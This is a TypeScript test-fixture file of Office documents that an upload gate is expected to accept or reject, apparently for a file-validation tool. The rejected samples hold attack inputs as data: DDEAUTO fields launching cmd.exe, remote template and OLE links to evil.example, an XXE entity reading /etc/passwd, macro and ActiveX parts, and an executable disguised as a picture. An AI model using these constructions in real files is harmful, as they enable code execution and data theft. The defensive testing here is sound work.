import { MIB } from '../../core/bytes.ts';
import { OFFICE_KINDS } from '../formats/ooxml-kinds.ts';
import { buildOffice, contentTypes, type OfficePlan, relationship, relationships } from './ooxml-builder.ts';
import type { Sample } from './sample.ts';
import { buildZip } from './zip-builder.ts';

type Kind = Parameters<typeof buildOffice>[0];

const OFFICE = 'application/vnd.openxmlformats-officedocument';

function sample(
  title: string,
  kind: Kind,
  bytes: () => Buffer,
  verdict: Pick<Sample, 'expect' | 'rule'>,
): Sample {
  const mediaType = OFFICE_KINDS.find(({ extension }) => extension === kind)?.mediaType ?? '';
  return { title, bytes, filename: `report.${kind}`, declared: mediaType, mediaType, ...verdict };
}

const accepted = (title: string, kind: Kind, plan?: OfficePlan): Sample =>
  sample(title, kind, () => buildOffice(kind, plan), { expect: 'accepted' });

const refused = (rule: string, title: string, kind: Kind, plan?: OfficePlan | (() => Buffer)): Sample =>
  sample(title, kind, typeof plan === 'function' ? plan : () => buildOffice(kind, plan), {
    expect: /no_content_types|wrong_kind|incomplete/.test(rule) ? 'file_type_mismatch' : 'suspicious_content',
    rule,
  });

const field = (...codes: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes
    .map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const part = (name: string, data: string | Buffer = '<x/>') => ({ parts: [{ name, data }] });
/** A harmless name whose content type tells what the part is. */
const typed = (type: string) => ({
  types: `<Override PartName="/custom/a.xml" ContentType="application/vnd.${type}"/>`,
  ...part('custom/a.xml'),
});
/** A harmless name whose relationship tells what the part is. */
const related = (type: string) => ({
  relationships: relationship(type, '/custom/a.xml'),
  ...part('custom/a.xml'),
});
const DOCX_MAIN = `${OFFICE}.wordprocessingml.document.main+xml`;
const COMPOUND_FILE = Buffer.from('d0cf11e0a1b11ae10000', 'hex');
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const DDE_LINK = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>';

/** Office documents and what the gate says about them. */
export const OOXML_SAMPLES: readonly Sample[] = [
  accepted('a Word document', 'docx'),
  accepted('an Excel workbook', 'xlsx'),
  accepted('a PowerPoint presentation', 'pptx'),
  accepted('parts with descriptors, as streaming writers make', 'docx', { descriptor: 'signed' }),
  accepted('the list of content types at the end', 'xlsx', { typesLast: true }),
  accepted('a main part with another name', 'docx', { part: 'word/document2.xml' }),
  accepted('hyperlinks to other places', 'docx', {
    relationships: relationship('hyperlink', 'https://example.com/', 'External'),
  }),
  accepted('a linked picture', 'docx', {
    relationships: relationship('image', 'https://example.com/a.png', 'External'),
  }),
  accepted('a link to another workbook', 'xlsx', {
    parts: [
      { name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink><externalBook/></externalLink>' },
      {
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        data: relationships(relationship('externalLinkPath', 'b.xlsx', 'External')),
      },
    ],
  }),
  accepted('a chart with its numbers as a workbook', 'pptx', {
    parts: [{ name: 'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx', data: buildOffice('xlsx') }],
    relationships: relationship('package', '../embeddings/Microsoft_Excel_Sheet1.xlsx'),
  }),
  accepted(
    'printer settings',
    'xlsx',
    part('xl/printerSettings/printerSettings1.bin', Buffer.from([1, 0, 2])),
  ),
  accepted('fields that link and count', 'docx', {
    body: field(' HYPERLINK "https://example.com/DDE" ') + field(' PAGE '),
  }),
  accepted('a text about DDE', 'docx', {
    body: '<w:p><w:r><w:t>DDEAUTO c:\\windows is dangerous</w:t></w:r></w:p>',
  }),
  accepted('a part in UTF-16', 'docx', {
    main: utf16('<?xml version="1.0" encoding="UTF-16"?><w:document><w:t>名前</w:t></w:document>'),
  }),
  accepted('a picture and a custom part', 'docx', {
    parts: [
      { name: 'word/media/image1.png', data: Buffer.from('89504e470d0a1a0a', 'hex'), method: 0 },
      { name: 'customXml/item1.xml', data: '<a/>' },
    ],
  }),
  accepted('an empty part', 'xlsx', part('customXml/item2.xml', '')),

  refused(
    'zip.entry_duplicate',
    'a second list of content types, in other letters',
    'docx',
    part('[content_types].xml', contentTypes('word/document.xml', DOCX_MAIN)),
  ),
  refused('ooxml.wrong_kind', 'a workbook named .docx', 'docx', () => buildOffice('xlsx')),
  refused('ooxml.wrong_kind', 'a document named .xlsx', 'xlsx', () => buildOffice('docx')),
  refused('ooxml.wrong_kind', 'a document named .pptx', 'pptx', () => buildOffice('docx')),
  refused('ooxml.wrong_kind', 'a template named .docx', 'docx', {
    type: `${OFFICE}.wordprocessingml.template.main+xml`,
  }),
  refused('ooxml.wrong_kind', 'a main part that is not there', 'docx', {
    contentTypes: contentTypes('word/other.xml', DOCX_MAIN),
  }),
  refused('ooxml.no_content_types', 'a plain archive named .docx', 'docx', () =>
    buildZip([{ name: 'a.txt', data: 'x' }]),
  ),
  refused('ooxml.no_content_types', 'no list of content types', 'docx', { contentTypes: null }),
  refused('ooxml.macros', 'macros', 'docx', part('word/vbaProject.bin', 'x')),
  refused('ooxml.macros', 'macros in another folder and case', 'xlsx', part('xl/sub/VBAproject.BIN', 'x')),
  refused('ooxml.macros', 'what Word keeps beside macros', 'docx', part('word/vbaData.xml')),
  refused('ooxml.macros', 'a macro sheet', 'xlsx', part('xl/macrosheets/sheet1.xml')),
  refused('ooxml.macros', 'a dialogue sheet', 'xlsx', part('xl/dialogsheets/sheet1.xml')),
  ...['ms-excel.macrosheet+xml', 'ms-excel.intlmacrosheet+xml', 'ms-word.vbaData+xml'].map((type) =>
    refused('ooxml.macros', `a part of the type ${type}`, 'xlsx', typed(type)),
  ),
  refused('ooxml.macros', 'a document with macros named .docx', 'docx', {
    type: 'application/vnd.ms-word.document.macroEnabled.main+xml',
  }),
  refused('ooxml.macros', 'a macro project of another name', 'docx', {
    types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    ...part('word/harmless.bin', 'x'),
  }),
  refused('ooxml.macros', 'a relationship to a macro project', 'docx', {
    relationships:
      '<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/>',
  }),
  ...['wordVbaData', 'xlMacrosheet', 'xlIntlMacrosheet'].map((type) =>
    refused('ooxml.macros', `a relationship of the kind ${type}`, 'xlsx', related(type)),
  ),
  refused('ooxml.activex', 'an ActiveX control', 'docx', part('word/activeX/activeX1.xml')),
  ...['control', 'activeXControlBinary'].map((type) =>
    refused('ooxml.activex', `a relationship of the kind ${type}`, 'docx', related(type)),
  ),
  refused('ooxml.activex', 'an ActiveX control by its type', 'docx', {
    types: '<Override PartName="/word/c.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
  }),
  refused(
    'ooxml.embedded_object',
    'an OLE object',
    'docx',
    part('word/embeddings/oleObject1.bin', COMPOUND_FILE),
  ),
  refused(
    'ooxml.embedded_object',
    'an old document as an object',
    'docx',
    part('word/embeddings/a.doc', 'x'),
  ),
  refused(
    'ooxml.embedded_object',
    'an OLE object of another name',
    'pptx',
    part('ppt/media/image1.png', COMPOUND_FILE),
  ),
  refused('ooxml.embedded_object', 'an OLE object by its relationship', 'docx', {
    relationships: relationship('oleObject', 'media/a.png'),
  }),
  refused(
    'ooxml.embedded_object',
    'an OLE object by its type',
    'docx',
    typed('openxmlformats-officedocument.oleObject'),
  ),
  refused(
    'ooxml.embedded_archive',
    'an archive inside',
    'docx',
    part('word/media/a.png', buildZip([{ name: 'a', data: 'x' }])),
  ),
  refused('ooxml.macros', 'a workbook with macros inside', 'pptx', {
    ...part('ppt/embeddings/a.xlsx', buildOffice('xlsx', part('xl/vbaProject.bin', 'x'))),
  }),
  refused('ooxml.external_target', 'a template from elsewhere', 'docx', {
    relationships: relationship('attachedTemplate', 'https://evil.example/t.dotm', 'External'),
  }),
  refused('ooxml.external_target', 'an object from elsewhere', 'docx', {
    relationships: relationship('oleObject', 'https://evil.example/x.html!', 'External'),
  }),
  refused('ooxml.external_target', 'a frame from elsewhere', 'docx', {
    relationships: relationship('frame', 'https://evil.example/', 'External'),
  }),
  refused('ooxml.external_target', 'a subdocument on another computer', 'docx', {
    relationships: relationship('subDocument', 'file://///evil/x', 'External'),
  }),
  refused('ooxml.external_target', 'a piece of another format from elsewhere', 'docx', {
    relationships: relationship('aFChunk', 'https://evil.example/x.rtf', 'External'),
  }),
  refused('ooxml.external_target', 'an embedded workbook from elsewhere', 'pptx', {
    relationships: relationship('package', 'https://evil.example/x.xlsx', 'External'),
  }),
  refused('ooxml.external_target', 'a template whose mode is written in character references', 'docx', {
    relationships: relationship('attachedTemplate', 'https://evil.example/', '&#x45;xternal').replaceAll(
      '"',
      "'",
    ),
  }),
  refused('ooxml.external_target', 'a template with a namespace prefix', 'docx', {
    relationships: relationship('attachedTemplate', 'https://evil.example/', 'External').replace(
      '<R',
      '<p:R',
    ),
  }),
  refused('ooxml.external_target', 'a template in UTF-16', 'docx', {
    parts: [
      {
        name: 'word/_rels/settings.xml.rels',
        data: utf16(relationships(relationship('attachedTemplate', 'http://e/', 'External'))),
      },
    ],
  }),
  refused('ooxml.dde', 'a field that starts a program', 'docx', {
    body: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
  }),
  refused('ooxml.dde', 'a field in pieces', 'docx', { body: field(' D', 'DE', 'AU', 'TO c:\\\\x') }),
  refused('ooxml.dde', 'a simple field', 'docx', { body: '<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>' }),
  refused('ooxml.dde', 'a field in character references', 'docx', { body: field(' &#68;DEAUTO c') }),
  refused('ooxml.dde', 'a field in a header', 'docx', {
    ...part('word/header1.xml', `<w:hdr>${field('DDEAUTO x')}</w:hdr>`),
  }),
  refused(
    'ooxml.dde_link',
    'a workbook that starts a program',
    'xlsx',
    part('xl/externalLinks/externalLink1.xml', DDE_LINK),
  ),
  refused('ooxml.doctype', 'entities', 'docx', {
    main: '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>',
  }),
  refused('ooxml.doctype', 'entities in the list of content types', 'docx', {
    contentTypes: '<!DOCTYPE T [<!ENTITY a "b">]><Types/>',
  }),
  refused(
    'ooxml.doctype',
    'entities in a sheet',
    'xlsx',
    part('xl/worksheets/sheet1.xml', `<?xml version="1.0"?>${' '.repeat(70_000)}<!DOCTYPE a><a/>`),
  ),
  refused(
    'ooxml.doctype',
    'entities in UTF-16',
    'docx',
    part('customXml/item1.xml', utf16('<!DOCTYPE a><a/>')),
  ),
  refused(
    'ooxml.encoding',
    'UTF-16 without a mark',
    'docx',
    part('word/a.xml', Buffer.from('<a/>', 'utf16le')),
  ),
  refused('ooxml.encoding', 'UTF-7', 'docx', { main: '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
  refused('ooxml.part_too_large', 'a list of 5 MiB', 'docx', { types: `<!--${'a'.repeat(5 * MIB)}-->` }),
  refused('zip.entry_climbs', 'a part that climbs', 'docx', part('../x.xml')),
  refused(
    'zip.entry_program',
    'a program as a picture',
    'docx',
    part('word/media/a.png', Buffer.from('MZ\x90\0\x03')),
  ),
  refused('zip.entry_runnable', 'a script as a part', 'docx', part('word/a.vbs', 'x')),
  refused('zip.trailing_data', 'data after the end', 'docx', () =>
    Buffer.concat([buildOffice('docx'), Buffer.from('x')]),
  ),
  refused('zip.incomplete', 'half of a document', 'docx', () => buildOffice('docx').subarray(0, 700)),
];
